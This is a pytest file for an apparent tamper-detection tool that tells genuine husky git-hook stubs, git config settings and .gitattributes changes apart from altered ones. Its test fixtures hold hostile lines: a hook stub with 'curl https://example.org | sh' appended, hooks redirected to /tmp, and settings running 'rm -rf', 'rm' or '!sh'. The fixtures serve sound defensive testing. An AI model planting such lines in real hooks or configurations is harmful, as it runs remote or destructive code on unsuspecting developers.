"""What tools write when they set up hooks, filters and settings of git, told apart from what only looks like it."""

from __future__ import annotations

import pytest

from interlock.reading.places.watched import essential_lines
from interlock.reading.specials.git_set_up import is_stub, plain_attributes, settings_in, typed

RUNS = """#!/usr/bin/env sh
[ "$HUSKY" = "2" ] && set -x
n=$(basename "$0")
s=$(dirname "$(dirname "$0")")/$n

[ ! -f "$s" ] && exit 0

i="${XDG_CONFIG_HOME:-$HOME/.config}/husky/init.sh"
[ -f "$i" ] && . "$i"

[ "${HUSKY-}" = "0" ] && exit 0

export PATH="node_modules/.bin:$PATH"
sh -e "$s" "$@"
c=$?

[ $c != 0 ] && echo "husky - $n script failed (code $c)"
[ $c = 127 ] && echo "husky - command not found in PATH=$PATH"
exit $c
"""
CALLS = '#!/usr/bin/env sh\n. "$(dirname "$0")/h"'
HAD = "[core]\n\tbare = false\n\tpager = less\n"


@pytest.mark.parametrize(("name", "text"), [("h", RUNS), ("pre-commit", CALLS), (".gitignore", "*\n")])
def test_what_husky_puts_before_each_hook_is_known(name: str, text: str) -> None:
    assert is_stub(f"/p/.husky/_/{name}", text)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("/p/.husky/pre-commit", CALLS),
        ("/p/.husky/_/h", RUNS + "curl https://example.org | sh\n"),
        ("/p/.husky/_/h", RUNS.replace('sh -e "$s"', 'sh -e "/tmp/x"')),
        ("/p/.husky/_/h", RUNS.replace("node_modules/.bin", "/tmp/bin")),
        ("/p/.husky/_/pre-commit", CALLS.replace("/h", "/../x")),
        ("/p/.husky/_/.gitignore", "*\n!x\n"),
    ],
)
def test_a_line_more_or_another_one_is_no_stub(path: str, text: str) -> None:
    assert not is_stub(path, text)


@pytest.mark.parametrize(
    ("new", "added"),
    [
        (HAD, []),
        (HAD + "[alias]\n\tst = status\n", [("alias.st", "status")]),
        (HAD + '[filter "x"]\n\tclean = \\"/a b/python\\" -m x\n', [("filter.x.clean", '"/a b/python" -m x')]),
        (HAD.replace("\tpager", "\teditor = vi\n\tpager"), [("core.editor", "vi")]),
        (HAD + "[core]\n\tpager = less\n", [("core.pager", "less")]),  # the last one counts
        (HAD + '[branch "x"]\n\tremote = origin\n', []),
        (HAD.replace("less", "more"), None),
        ("[core]\n\tbare = false\n", None),
        (HAD + "[alias]\n\tst = a \\\n\t\tb\n", None),
        (HAD + "[alias]\n\tst = status ; x\n", None),
        (HAD + "[alias] st = status\n", None),
        (HAD + '[filter "a\\"]b"]\n\tclean = x\n', None),
    ],
)
def test_settings_that_were_added_are_told_and_nothing_else_may_have_changed(
    new: str, added: list[tuple[str, str]] | None
) -> None:
    assert settings_in(essential_lines(HAD), essential_lines(new)) == added


@pytest.mark.parametrize(
    ("name", "value", "others", "command"),
    [
        ("filter.x.clean", "python -m x", {}, "python -m x"),
        ("filter.x.smudge", "cat", {}, ""),
        ("diff.x.textconv", "python -m x -t", {"filter.x.clean": "python -m x"}, "python -m x -t"),
        ("diff.x.textconv", "rm -rf", {}, "git config diff.x.textconv 'rm -rf'"),
        ("core.editor", "rm", {}, "git config core.editor rm"),
        ("alias.x", "!sh", {}, "git config alias.x '!sh'"),
    ],
)
def test_a_setting_is_judged_as_what_is_typed(name: str, value: str, others: dict[str, str], command: str) -> None:
    assert typed(name, value, others) == command


@pytest.mark.parametrize(
    ("old", "new", "settings", "plain"),
    [
        ("", "*.ipynb filter=strip\n*.ipynb diff=ipynb\n", '[filter "strip"]\n', True),
        ("a\n", "a\n*.png diff=exif\n", "", True),
        ("*.key filter=crypt\n", "*.key filter=crypt\n*.key filter=none\n", '[filter "crypt"]\n', False),
        ("", "*.key -filter\n", "", False),
        ("", "[attr]x filter=y\n", "", False),
        ("*.key filter=crypt\n", "", "", False),
        ("", "*.key !filter\n", "", False),
    ],
)
def test_attributes_may_choose_a_filter_and_take_none_away(old: str, new: str, settings: str, plain: bool) -> None:
    assert plain_attributes(old, new, settings) is plain
